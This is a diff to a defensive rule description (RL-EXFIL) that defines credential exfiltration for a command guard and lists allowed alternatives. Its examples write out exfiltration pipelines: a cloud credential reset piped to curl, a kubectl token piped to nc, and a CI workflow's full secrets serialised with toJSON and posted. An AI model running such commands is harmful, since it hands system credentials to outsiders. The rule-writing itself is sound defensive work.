@@ -12,7 +12,8 @@ What it catches
     credential folders count in Windows spellings too (`$env:USERPROFILE\\.ssh`,
     `%USERPROFILE%\\.aws`, `$env:APPDATA\\gcloud`). A new cloud or cluster secret piped
     straight into an upload of what it reads (`az ad sp credential reset ... | curl -d @-
-    URL`, `kubectl create token SA | nc HOST PORT`).
+    URL`, `kubectl create token SA | nc HOST PORT`). A CI workflow's whole set of secrets at
+    once (GitHub Actions' `${{ toJSON(secrets) }}`) posted anywhere.
 
 Why it is a redline (RL-EXFIL)
     Shipping credentials off the machine hands the keys of the system to someone else.
@@ -23,8 +24,9 @@ Example
 
 Allowed instead
     Uploading one's own public key, reading a token to call the service it belongs to,
-    `aws configure`, a new token used as the bearer of a request to its own service (`kubectl
-    create token sa | xargs -I{} curl -H "Authorization: Bearer {}" ...`) or stored in a vault,
+    `aws configure`, a workflow step given the one secret it needs by name, a new token used
+    as the bearer of a request to its own service (`kubectl create token sa | xargs -I{} curl
+    -H "Authorization: Bearer {}" ...`) or stored in a vault,
     a secret scan reported locally, mailing failed-login counts, saved Wi-Fi
     networks moved to one's own new laptop and loaded there, the variable names of one's own
     service's environment listed locally, an install hook that builds or checks the package
